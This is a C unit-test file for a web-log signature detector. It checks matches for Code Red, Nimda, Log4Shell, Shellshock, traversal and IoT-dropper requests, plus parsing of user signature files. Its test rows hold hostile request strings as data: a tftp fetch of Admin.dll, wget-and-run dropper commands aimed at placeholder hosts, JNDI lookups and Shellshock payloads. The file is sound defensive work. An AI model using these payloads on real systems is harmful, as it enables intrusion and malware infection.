// SPDX-License-Identifier: Apache-2.0
// What each signature finds and what it leaves alone, and what is wrong with a file of them.
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <strings.h>

#include "base/literals.h"
#include "unit/detect/weblog.h"

#define TFTP "/scripts/root.exe?/c+tftp%20-i%2010.1.2.3%20GET%20Admin.dll%20c:\\Admin.dll"

/* The id of the signature that fits; NULL when none does. */
static const char *found(const struct request *q)
{
	struct signatures *s = builtin();
	struct signature_room *room = signature_room_new();
	struct signature_match m;
	const char *id = NULL;
	assert_non_null(room);
	if (signatures_match(s, room, q, &m))
		for (size_t i = 0; i < signatures_count(s); i++)
			if (signatures_get(s, i) == m.signature)
				id = test_malloc(64);
	if (id)
		snprintf((char *)id, 64, "%s", m.signature->id);
	signature_room_free(room);
	signatures_free(s);
	return id;
}

static void expect(const struct request *q, const char *text, const char *want)
{
	const char *got = found(q);
	if (!want ? got != NULL : !got || strcmp(got, want))
		fail_msg("%s is %s, not %s", text, got ? got : "nothing", want ? want : "nothing");
	test_free((void *)got);
}

static bool holds(struct str text, struct str part)
{
	for (size_t i = 0; i + part.len <= text.len; i++)
		if (!strncasecmp(text.ptr + i, part.ptr, part.len))
			return true;
	return false;
}

/* Whether a literal stands in it as W3C logs write it: path and query in two columns. */
static bool is_marked(const struct request *q)
{
	struct signatures *s = builtin();
	struct str literal[LITERALS_MAX];
	bool found = false;
	for (size_t i = signatures_literals(s, literal); i > 0; i--)
		found |= holds(q->path, literal[i - 1]) || holds(q->query, literal[i - 1]);
	signatures_free(s);
	return found;
}

static void each_request_is_what_it_is(void **state)
{
	static const struct {
		const char *target, *id;
	} rows[] = {
		{ "/default.ida?" N20 N20 CODE_RED_TAIL, "code-red-1" },
		{ "/default.ida?" N20, "code-red-1" },
		{ "/default.ida?" X20 X20 CODE_RED_TAIL, "code-red-2" },
		{ "/default.ida?" X20, "code-red-2" },
		{ "?" X20 X20 CODE_RED_TAIL, "code-red-2" },
		{ X20 X20 CODE_RED_TAIL, "code-red-2" },
		{ "/default.ida?NNNN", "code-red-1-cut" },
		{ "/default.ida?XX", "code-red-2-cut" },
		{ "/default.ida", "code-red-unknown" },
		{ "/DEFAULT.IDA", "code-red-unknown" },
		{ "/default.ida?foo", "ida-probe" },
		{ "/NULL.ida", "ida-probe" },
		{ "/x.ida", "ida-probe" },
		{ "/null.idq?x=1", "ida-probe" },
		{ "/NULL.IDA?CCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCC",
			"ida-overflow" },
		{ "/a.idq?AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
			"ida-overflow" },
		{ "/b.idq?AAAAAAAAAAAA", NULL },
		{ TFTP, "nimda-tftp" },
		{ "/scripts/Admin.dll", "nimda-admin-dll" },
		{ "/_vti_bin/_vti_adm/admin.dll", NULL }, // FrontPage's own
		{ "/readme.eml", "nimda-readme-eml" },
		{ "/readme.eml.html", NULL },
		{ "/nul.php", NULL },
		{ "/HNAP1", "iot-probe" },
		{ "/HNAP1/", "iot-probe" },
		{ "/HNAP10.html", NULL },
		{ "/GponForm/diag_Form?images/", "iot-probe" },
		{ "/setup.cgi?next_file=netgear.cfg", "iot-probe" },
		{ "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://x/"
		  "Mozi.m",
			"iot-dropper" },
		{ "/setup.cgi?page=1", NULL },
		{ "/boaform/admin/formLogin", "iot-probe" },
		{ "/shell?cd+/tmp;rm+-rf+*", "iot-probe" },
		{ "/shell?cd+/tmp;wget+http://x/jaws;sh+/tmp/jaws", "iot-dropper" },
		{ "/shell?page=1", NULL },
		{ "/blog/tags/shell?page=1", NULL },
		{ "/blog/tags/shell?q=a+wget+tutorial", NULL },
		{ "/?x=${jndi:ldap://x/a}", "log4shell" },
		{ "/?x=$%7bjndi:ldap://x/a%7d", "log4shell" },
		{ "/?x=${${lower:j}ndi:ldap://x/a}", "log4shell" },
		{ "/?x=${${::-j}${::-n}di:ldap://x/a}", "log4shell" },
		{ "/?price=${total}", NULL },
		{ "/scripts/..%5c../winnt/system32/cmd.exe?/c+dir+c:", "traversal" },
		{ "/../../../../etc/passwd", "traversal" },
		{ "/cgi-bin/x?f=..%2f..%2f..%2fetc%2fpasswd", "traversal" },
		{ "/docs/cmd.exe.html", NULL },
		{ "/files/etc/passwd-manual.pdf", NULL },
		{ "/w00tw00t.at.ISC.SANS.DFind:)", "scanner-tool" },
		{ "/muieblackcat", "scanner-tool" },
		{ "/sumthin", "scanner-tool" },
		{ "/sumthing-else", NULL },
		{ "/phpMyAdmin/", "phpmyadmin-scan" },
		{ "/pma/index.php", "phpmyadmin-scan" },
		{ "/mysql/", "phpmyadmin-scan" },
		{ "/sqladmin/", "phpmyadmin-scan" },
		{ "/sqlmanager/", "phpmyadmin-scan" },
		{ "/websql/", "phpmyadmin-scan" },
		{ "/php-my-admin/", "phpmyadmin-scan" },
		{ "/db/pma/", "phpmyadmin-scan" },
		{ "/scripts/setup.php", "phpmyadmin-scan" },
		{ "/blog/phpmyadmin-tips", NULL },
		{ "/florida.idaho.html", NULL },
		{ "/", NULL },
		{ "", NULL },
	};
	(void)state;
	for (size_t i = 0; i < countof(rows); i++) {
		struct request q = get(rows[i].target);
		expect(&q, rows[i].target, rows[i].id);
		if (rows[i].id && !is_marked(&q))
			fail_msg("%s holds no literal", rows[i].target);
	}
	for (size_t i = 0; i < countof(nimda); i++) {
		struct request q = get(nimda[i]);
		expect(&q, nimda[i], "nimda");
		assert_true(is_marked(&q));
	}
}

/* Escaped words hold no literal; in a line that is looked at for another one they are found. */
static void escaped_words_are_read(void **state)
{
	static const char *const rows[][2] = {
		{ "/default%2eida", "code-red-unknown" },
		{ "/default%252eida", "code-red-unknown" },
		{ "/?x=%24%7B%6Andi:dns://x%7D", "log4shell" },
	};
	(void)state;
	for (size_t i = 0; i < countof(rows); i++) {
		struct request q = get(rows[i][0]);
		expect(&q, rows[i][0], rows[i][1]);
		assert_false(is_marked(&q));
	}
}

static void sixteen_requests_are_sixteen_patterns(void **state)
{
	uint32_t seen = 0;
	struct signatures *s = builtin();
	struct signature_room *room = signature_room_new();
	(void)state;
	for (size_t i = 0; i < countof(nimda); i++) {
		struct signature_match m;
		struct request q = get(nimda[i]);
		assert_true(signatures_match(s, room, &q, &m));
		seen |= UINT32_C(1) << m.pattern;
	}
	assert_int_equal(seen, 0xffff);
	signature_room_free(room);
	signatures_free(s);
}

/* What a field holds counts only for signatures that may stand there. */
static void forged_fields_make_no_worm(void **state)
{
	static const char *const forged[] = { "/default.ida?" X20 X20 CODE_RED_TAIL, "/default.ida",
		"/scripts/root.exe?/c+dir", TFTP, "/HNAP1/", "/../../../etc/passwd",
		"x] File does not exist: /default.ida", "muieblackcat", "readme.eml" };
	(void)state;
	for (size_t i = 0; i < countof(forged); i++)
		for (unsigned field = 0; field < 4; field++) {
			struct request q = get("/");
			struct str *const at[] = { &q.agent, &q.referer, &q.forwarded, &q.line };
			*at[field] = str_of(forged[i]);
			expect(&q, forged[i], NULL);
		}
}

static void what_is_logged_anywhere_works_anywhere(void **state)
{
	static const char *const shell[] = { "() { :;}; /bin/bash -c 'x'", "()+{+:;};+/bin/sh" };
	(void)state;
	for (unsigned field = 0; field < 3; field++) {
		struct request q = get("/");
		struct str *const at[] = { &q.agent, &q.referer, &q.forwarded };
		*at[field] = STR("${jndi:ldap://10.0.0.1/a}");
		expect(&q, "jndi", "log4shell");
		*at[field] = STR("\\x24{jndi:ldap://10.0.0.1/a}");
		expect(&q, "jndi as nginx writes it", "log4shell");
	}
	for (size_t i = 0; i < countof(shell); i++) {
		struct request q = get("/cgi-bin/status");
		q.agent = str_of(shell[i]);
		expect(&q, shell[i], "shellshock");
		q.agent = STR("Mozilla/5.0 (function() { return 1; })");
		expect(&q, "a function inside an agent", NULL);
	}
}

static void a_proxys_log_tells_of_bagle(void **state)
{
	struct request q = get("/nul.php");
	(void)state;
	q.line = STR("86 200.255.5.155 TCP_MISS/404 1495 GET http://pawlacz.com/nul.php - "
		     "DIRECT/193.84.182.19 text/html");
	expect(&q, "squid in an alert", "bagle-nul-php");
	q.line = STR("1150791872.086     86 200.255.5.155 TCP_MISS/404 1495 GET "
		     "http://pawlacz.com/x/nul.php - DIRECT/193.84.182.19 text/html");
	expect(&q, "squid", "bagle-nul-php");
	q.line = STR("10.0.0.1 - - [09/Aug/2001:00:11:57 +0000] \"GET / HTTP/1.0\" 200 1 \"86 "
		     "200.255.5.155 TCP_MISS/404 1495 GET http://pawlacz.com/nul.php - \" \"-\"");
	expect(&q, "squid's line in a referer", NULL);
}

static void error_logs_have_forms_of_their_own(void **state)
{
	static const struct {
		const char *line, *id;
		uint64_t time_s;
	} rows[] = {
		{ "[Sun Aug  5 16:26:02 2001] [error] [client 66.31.68.147] File does not exist: "
		  "/var/www/html/default.ida",
			"code-red-unknown", 997028762 },
		{ "[Sun Aug  5 16:26:02 2001] [error] [client 66.31.68.147] File does not exist: "
		  "/var/www/html/x.html, referer: http://a/default.ida",
			NULL, 997028762 },
		{ "[Wed Aug  1 05:13:17 2001] [error] [client 61.137.106.19] Client sent malformed "
		  "Host header",
			"code-red-host-header", 996642797 },
		{ "[Fri Dec 16 02:25:55 2005] [error] [client 64.94.163.159] Client sent malformed "
		  "Host header",
			NULL, 1134699955 },
		{ "[client 64.94.163.159] Client sent malformed Host header", NULL, 0 },
	};
	(void)state;
	for (size_t i = 0; i < countof(rows); i++) {
		struct request q = get(NULL);
		q.line = str_of(rows[i].line);
		q.time_ms = rows[i].time_s * 1000;
		q.has |= REQUEST_ERROR | (rows[i].time_s ? REQUEST_HAS_TIME : 0);
		expect(&q, rows[i].line, rows[i].id);
	}
}

static void the_tftp_step_names_an_address(void **state)
{
	struct signatures *s = builtin();
	struct signature_room *room = signature_room_new();
	struct signature_match m;
	struct request q = get(TFTP);
	(void)state;
	assert_true(signatures_match(s, room, &q, &m));
	assert_true(m.has_attacker);
	struct addr a = host_of("10.1.2.3");
	assert_true(addr_eq(&m.attacker, &a));
	q = get("/c/winnt/system32/cmd.exe?/c+tftp%20-i%20999.1.2.3%20GET%20Admin.dll");
	assert_true(signatures_match(s, room, &q, &m));
	assert_false(m.has_attacker);
	signature_room_free(room);
	signatures_free(s);
}

static void literals_and_texts_are_whole(void **state)
{
	struct signatures *s = builtin();
	struct str literal[LITERALS_MAX];
	size_t n = signatures_literals(s, literal);
	(void)state;
	assert_true(n > 10 && n <= LITERALS_MAX);
	for (size_t i = 0; i < n; i++) {
		assert_in_range(literal[i].len, LITERAL_MIN_BYTES, LITERAL_MAX_BYTES);
		for (size_t k = 0; k < i; k++)
			assert_false(literal[i].len == literal[k].len &&
				     !memcmp(literal[i].ptr, literal[k].ptr, literal[i].len));
	}
	for (size_t i = 0; i < signatures_count(s); i++) {
		const struct signature *is = signatures_get(s, i);
		assert_true(is->id && is->name && is->attack);
		for (unsigned l = 0; l < N_LANGS; l++)
			assert_true(is->meaning[l][0] && is->fix[l][0]);
	}
	signatures_free(s);
}

#define TEXTS "meaning: {en: a, ja: b}, fix: {en: c, ja: d}"
#define RULE(more) "signatures:\n- {id: own, name: Own, stage: probing, " TEXTS ", " more "}\n"
#define WHOLE "class: attack, where: [path], literals: ['/own'], patterns: ['^/own$']"

static void a_users_file_adds_and_replaces(void **state)
{
	struct err e = {};
	struct signatures *s = builtin();
	struct signature_room *room = signature_room_new();
	struct signature_match m;
	struct request q = get("/own");
	size_t n = signatures_count(s);
	(void)state;
	assert_false(signatures_match(s, room, &q, &m));
	assert_true(signatures_parse(s, STR(RULE(WHOLE)), "f", &e));
	assert_int_equal(signatures_count(s), n + 1);
	assert_true(signatures_match(s, room, &q, &m));
	assert_string_equal(m.signature->id, "own");
	assert_int_equal(m.signature->class, SIGNATURE_ATTACK);

	assert_true(signatures_parse(s,
		STR("signatures:\n- {id: own, name: Other, stage: infecting, class: scanner, "
		    "where: [agent], literals: [other], patterns: [other], " TEXTS "}\n"),
		"g", &e));
	assert_int_equal(signatures_count(s), n + 1);
	assert_false(signatures_match(s, room, &q, &m));
	q.agent = STR("other");
	assert_true(signatures_match(s, room, &q, &m));
	assert_string_equal(m.signature->name, "Other");
	signature_room_free(room);
	signatures_free(s);
}

static void a_wrong_file_is_told_with_its_place(void **state)
{
	static const struct {
		struct str text;
		const char *error;
	} rows[] = {
		{ STR("signature: []\n"), "f:1:1: unknown key 'signature', did you mean "
					  "'signatures'?" },
		{ STR(RULE("clas: attack, " WHOLE)), "unknown key 'clas', did you mean 'class'?" },
		{ STR("signatures:\n- id: own\n  class: atack\n"),
			"f:3:10: unknown class 'atack', did you mean 'attack'?" },
		{ STR("signatures:\n- id: Own\n"),
			"f:2:7: expected small letters, digits and hyphens, got 'Own'" },
		{ STR("signatures:\n- id: own\n  where: [paht]\n"), "did you mean 'path'?" },
		{ STR("signatures:\n- id: own\n  literals: [ab]\n"),
			"f:3:14: a literal has 3 to 64 bytes, this one has 2" },
		{ STR("signatures:\n- id: own\n  patterns: ['(a']\n"),
			"f:3:14: missing closing parenthesis, at byte 2 of the expression" },
		{ STR("signatures:\n- id: own\n  since: 2001-02-30\n"),
			"f:3:10: expected a day, YYYY-MM-DD, got '2001-02-30'" },
		{ STR("signatures:\n- id: own\n  taken: [20]\n"), "f:3:11: " },
		{ STR(RULE("class: attack, where: [path], literals: [own], patterns: []")),
			"f:2:8: 'patterns', 'literals' and 'where' have one entry at least" },
		{ STR(RULE(WHOLE ", distinct: 2, within: 60")), "more than there are patterns" },
		{ STR(RULE(WHOLE ", within: 60")), "belong together" },
		{ STR(RULE("class: carrier, where: [path], literals: [own], patterns: [a]")),
			"'taken' is missing" },
		{ STR(RULE(WHOLE ", taken: [200]")), "belong together" },
		{ STR(RULE(WHOLE) "- {id: own, name: Own, stage: probing, " TEXTS ", " WHOLE "}\n"),
			"f:3:8: id 'own' stands in line 2 already" },
		{ STR("signatures:\n- id: own\n"), "f:2:3: " },
	};
	(void)state;
	for (size_t i = 0; i < countof(rows); i++) {
		struct err e = {};
		struct signatures *s = builtin();
		assert_false(signatures_parse(s, rows[i].text, "f", &e));
		if (!strstr(e.text, rows[i].error))
			fail_msg("row %zu: %s", i, e.text);
		signatures_free(s);
	}
}

/* A pattern that would take for ever is given up, and that is counted. */
static void a_slow_pattern_is_given_up(void **state)
{
	struct err e = {};
	struct signatures *s = builtin();
	struct signature_room *room = signature_room_new();
	struct signature_match m;
	struct request q = get("/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!");
	(void)state;
	assert_true(signatures_parse(s,
		STR(RULE("class: attack, where: [path], literals: [aaa], "
			 "patterns: ['(a+)+b', '((a|aa)+)+$']")),
		"f", &e));
	assert_false(signatures_match(s, room, &q, &m));
	assert_true(signature_room_limits(room) > 0);
	signature_room_free(room);
	signatures_free(s);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(each_request_is_what_it_is),
		cmocka_unit_test(escaped_words_are_read),
		cmocka_unit_test(sixteen_requests_are_sixteen_patterns),
		cmocka_unit_test(forged_fields_make_no_worm),
		cmocka_unit_test(what_is_logged_anywhere_works_anywhere),
		cmocka_unit_test(a_proxys_log_tells_of_bagle),
		cmocka_unit_test(error_logs_have_forms_of_their_own),
		cmocka_unit_test(the_tftp_step_names_an_address),
		cmocka_unit_test(literals_and_texts_are_whole),
		cmocka_unit_test(a_users_file_adds_and_replaces),
		cmocka_unit_test(a_wrong_file_is_told_with_its_place),
		cmocka_unit_test(a_slow_pattern_is_given_up),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
